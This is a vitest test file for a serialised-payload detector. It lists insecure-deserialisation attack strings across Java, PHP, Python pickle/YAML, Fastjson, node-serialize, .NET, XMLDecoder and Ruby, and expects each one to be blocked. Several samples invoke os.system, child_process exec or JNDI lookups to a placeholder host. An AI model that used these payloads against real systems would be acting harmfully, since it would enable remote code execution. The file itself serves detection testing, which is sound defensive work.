import { describe, expect, test } from 'vitest';
import { createValueInspector, type ValueAt } from '../testing/value.ts';
import { serialisedDetector } from './detector.ts';

const inspect = createValueInspector([serialisedDetector]);

describe('serialisedDetector', () => {
  const attacks: readonly (readonly [string, string, ValueAt?])[] = [
    ['deserialisation', 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA'],
    ['deserialisation', 'aced00057372'],
    ['deserialisation', 'O:8:"stdClass":1:{s:1:"a";i:1;}'],
    ['deserialisation', 'a:1:{i:0;O:4:"Evil":0:{}}'],
    ['deserialisation', 'AAEAAAD/////AQAAAAAAAAAMAgAAAE'],
    ['deserialisation', 'gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='],
    ['deserialisation', "cos\nsystem\n(S'id'\ntR."],
    ['deserialisation', '!!python/object/apply:os.system ["id"]'],
    ['deserialisation', '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://e/"]]]]'],
    ['deserialisation', '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://e/x","autoCommit":true}'],
    ['deserialisation', '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}'],
    ['deserialisation', '["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:"}]'],
    ['deserialisation', '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>'],
    ['deserialisation', '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}'],
    ['deserialisation', '--- !ruby/object:Gem::Installer'],
    ['deserialisation', 'BAhvOkBBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbg=='],
    ['deserialisation', '/wEPDwUKMTY3NzE5MjIyMGRk'],
    ['deserialisation', 'javax.naming.InitialContext'],
    ['deserialisation', '@{System.Diagnostics.Process.Start("cmd")}'],
    ['deserialisation', 'rO0ABXVyABNbTGphdmEubGFuZy5TdHJpbmc'],
    ['deserialisation', 'O:21:"JDatabaseDriverMysqli":3:{}'],
    ['deserialisation', 'O%3A8%3A%22stdClass%22%3A0%3A%7B%7D'],
    ['deserialisation', 'YToxOntpOjA7Tzo4OiJzdGRDbGFzcyI6MDp7fX0='],
    ['deserialisation', '!!com.sun.rowset.JdbcRowSetImpl'],
    ['deserialisation', '!!python/name:os.system'],
    ['deserialisation', '{"@type":"java.lang.AutoCloseable","@type":"x.y.Z"}'],
    ['deserialisation', '{"@class":"org.apache.commons.configuration.JNDIConfiguration"}'],
    ['deserialisation', "(dp0\nS'a'\n"],
    ['deserialisation', '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>'],
  ];

  test.each(attacks.map(([attackClass, text, at]) => ({ attackClass, text, at })))(
    '$attackClass: $text',
    ({ attackClass, text, at }) => {
      const { action, findings } = inspect(text, at);
      expect({ action, classes: [...new Set(findings.map((finding) => finding.class))] }).toMatchObject({
        action: 'block',
        classes: expect.arrayContaining([attackClass]),
      });
    },
  );
});
